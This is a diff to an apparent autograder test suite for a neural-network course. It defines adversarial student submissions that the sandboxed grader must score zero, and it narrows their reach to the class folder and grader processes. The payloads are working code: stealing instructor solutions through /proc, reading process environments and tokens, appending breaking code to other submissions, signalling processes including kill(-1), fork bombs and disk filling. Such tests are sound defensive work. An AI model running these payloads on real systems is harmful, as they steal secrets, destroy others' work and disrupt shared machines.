@@ -11,7 +11,27 @@ score 0) from the rest. Placeholders the test fills in, as if the attacker knew 
 
 ``ATTACKS[file name] = {"kind", "what", "attacked": [items that must score 0], **changes}``;
 ``HONEST[file name] = changes`` (plus ``bom``, ``link_to``); every honest student must get full marks.
+
+Every attack that reaches outside its process aims only at the test's own class folder and at the grader's
+own processes (those whose command line names @CLASS@), never at the rest of the machine: graded without
+the sandbox (the fallback, or a broken grader), a suite that appends to every file it can find or signals every
+process it can see would harm other people's work. (It did once, run by hand without the sandbox.)
 """
+
+#: the grader and its workers: the only processes an attack may look at (their command line names the class)
+OURS = '''
+def _ours():
+    import os
+    found = [os.getppid()]
+    for pid in os.listdir("/proc"):
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                if b"@CLASS@" in f.read():
+                    found.append(int(pid))
+        except (OSError, ValueError):
+            pass
+    return [p for p in found if p != os.getpid()]
+'''
 
 # ---------------------------------------------------------------------------------------------- cheats
 
@@ -20,7 +40,7 @@ def rnn_step_forward(x, h_prev, Wx, Wh, b, activation="tanh"):
     import ast, glob, os
     import rnn_course
     places = ["@REPO@/solutions", os.path.join(os.path.dirname(os.path.dirname(rnn_course.__file__)), "solutions")]
-    for pid in os.listdir("/proc"):
+    for pid in _ours():
         try:
             places.append(os.path.join(os.readlink(f"/proc/{pid}/cwd"), "solutions"))  # the grader's folder
         except OSError:
@@ -80,7 +100,7 @@ def softmax(x, axis=-1):
     for path in ["@PACKAGE@/activations.py", rnn_course.activations.__file__]:
         text = None
         try:
-            link = "/tmp/activations_link.py"
+            link = "activations_link.py"  # in its working folder: the private /tmp
             if os.path.lexists(link):
                 os.unlink(link)
             os.link(path, link)  # a hard link is another name for the same file
@@ -207,7 +227,7 @@ import glob
 import os
 
 TARGETS = glob.glob("@CLASS@/submissions/*")
-for pid in os.listdir("/proc"):
+for pid in _ours():
     try:
         argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="ignore").split("\\0")
         TARGETS += [a for a in argv if a.lower().endswith((".py", ".ipynb"))]
@@ -215,6 +235,8 @@ for pid in os.listdir("/proc"):
     except OSError:
         pass
 for target in TARGETS:
+    if not os.path.realpath(target).startswith("@CLASS@"):
+        continue  # never anything outside the test's class folder, sandbox or not
     try:
         with open(target, "a") as f:
             f.write("\\n# %%\\ndef rnn_step_forward(*a, **k):\\n    raise RuntimeError('sabotaged')\\n")
@@ -259,7 +281,7 @@ def rnn_step_forward(x, h_prev, Wx, Wh, b, activation="tanh"):
         except OSError as err:
             loot.append(type(err).__name__)
     loot.append(os.environ.get("@TOKEN@", "no token"))
-    for pid in os.listdir("/proc"):
+    for pid in _ours():
         try:
             loot.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="ignore")[:3000])
         except OSError:
@@ -271,33 +293,35 @@ KILL_EVERYTHING = '''
 import os
 import signal
 
-for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()] + [os.getppid()]:
-    if pid == os.getpid():
-        continue
+for pid in _ours():
     for sig in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
         try:
             os.kill(pid, sig)
         except OSError:
             pass
-for make in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGINT)):
-    try:
-        make()
+if os.getpid() < 100:  # inside a PID namespace (the sandbox): kill(-1) reaches only it. Outside, it would be
+    try:               # every process this user can signal on the machine: not something a test may try
+        os.kill(-1, signal.SIGKILL)
     except OSError:
         pass
+try:
+    os.killpg(os.getpgid(os.getppid()), signal.SIGINT)
+except OSError:
+    pass
 '''
 
 WRITE_EVERYWHERE = '''
 import os
 
 WRITTEN = 0
-for i in range(40):  # fill the private /tmp: 640 MB asked for
+for i in range(8):  # fill the private /tmp: 128 MB asked for, twice what it holds
     try:
-        with open(f"/tmp/fill{i}", "wb") as f:
+        with open(f"fill{i}", "wb") as f:  # its working folder: the private /tmp
             f.write(b"\\0" * (16 * 1024 * 1024))
         WRITTEN += 16
     except OSError:
         break
-for folder in ["/dev/shm", "/var/tmp", "/opt/rnn-course", os.path.expanduser("~"), "@CLASS@", "@REPO@", os.getcwd()]:
+for folder in ["/opt/rnn-course", "/opt/rnn-course/rnn_course", os.path.expanduser("~"), "@CLASS@", "@CLASS@/submissions"]:
     try:
         open(os.path.join(folder, "dropped.txt"), "w").write("was here")
     except OSError:
@@ -365,7 +389,7 @@ import os
 import time
 
 FORKED = 0
-for _ in range(300):
+for _ in range(100):
     try:
         if os.fork() == 0:
             time.sleep(60)
@@ -375,7 +399,7 @@ for _ in range(300):
         break
 try:
     libc = ctypes.CDLL(None)
-    for _ in range(300):
+    for _ in range(100):
         pid = libc.fork()
         if pid == 0:
             time.sleep(60)
@@ -418,7 +442,7 @@ ATTACKS = {
     "01_forward_pass__steal_solutions.py": dict(
         kind="cheat", what="runs the instructor's solutions/ from disk (next to the package, or through the grader's "
                            "working folder in /proc)",
-        attacked=["rnn_step_forward"], replace={"rnn_step_forward": STEAL_SOLUTION}),
+        attacked=["rnn_step_forward"], before=[OURS], replace={"rnn_step_forward": STEAL_SOLUTION}),
     "01_forward_pass__dig_for_original.py": dict(
         kind="cheat", what="looks for the reference's original code through the trap's globals and closures, and "
                            "through every object in memory",
@@ -451,21 +475,21 @@ ATTACKS = {
     "01_forward_pass__sabotage_others.py": dict(
         kind="harm", what="finds other submissions (the class folder, the grader's argv in /proc) and appends code "
                           "that breaks them",
-        attacked=[], before=[SABOTAGE_OTHERS]),
+        attacked=[], before=[OURS, SABOTAGE_OTHERS]),
     "01_forward_pass__survive_and_rewrite.py": dict(
         kind="harm", what="forks through ctypes, setsid, and keeps rewriting the report after the grader exits",
         attacked=[], before=[SURVIVE_AND_REWRITE]),
     "01_forward_pass__leak_secrets.py": dict(
         kind="harm", what="copies an instructor's secret file, other students' files and the environment into the "
                           "report through an exception message",
-        attacked=["rnn_step_forward"], replace={"rnn_step_forward": LEAK_SECRETS}),
+        attacked=["rnn_step_forward"], before=[OURS], replace={"rnn_step_forward": LEAK_SECRETS}),
     "01_forward_pass__kill_everything.py": dict(
-        kind="harm", what="sends SIGSTOP, SIGINT, SIGTERM and SIGKILL to every process it can see, the grader "
-                          "included, and kill(-1)",
-        attacked=[], before=[KILL_EVERYTHING]),
+        kind="harm", what="sends SIGSTOP, SIGINT, SIGTERM and SIGKILL to the grader and its processes, SIGINT to "
+                          "the grader's process group, and kill(-1)",
+        attacked=[], before=[OURS, KILL_EVERYTHING]),
     "01_forward_pass__write_everywhere.py": dict(
-        kind="harm", what="fills its /tmp and tries to write into /dev/shm, the home folder, the class folder, the "
-                          "checkout and its working folder",
+        kind="harm", what="fills its /tmp and tries to write into the package, its home folder and the class "
+                          "folder",
         attacked=[], before=[WRITE_EVERYWHERE]),
     "01_forward_pass__phone_home.py": dict(
         kind="harm", what="opens a network connection to a port on the grader's machine",
@@ -488,7 +512,7 @@ ATTACKS = {
         attacked=["softmax", "rnn_forward"], before=[RAISE_LIMITS],
         replace={"softmax": REPORT_LIMITS, "rnn_forward": MEMORY_AFTER_RAISE}),
     "01_forward_pass__fork_bomb.py": dict(
-        kind="dos", what="forks 600 sleeping children (os.fork and libc's fork)", attacked=["rnn_step_forward"],
+        kind="dos", what="forks 200 sleeping children (os.fork and libc's fork)", attacked=["rnn_step_forward"],
         before=[FORK_BOMB], replace={"rnn_step_forward": REPORT_FORKS}),
     "01_forward_pass__ignore_alarm.py": dict(
         kind="dos", what="ignores the alarm that stops a slow call, then loops forever", attacked=["softmax"],
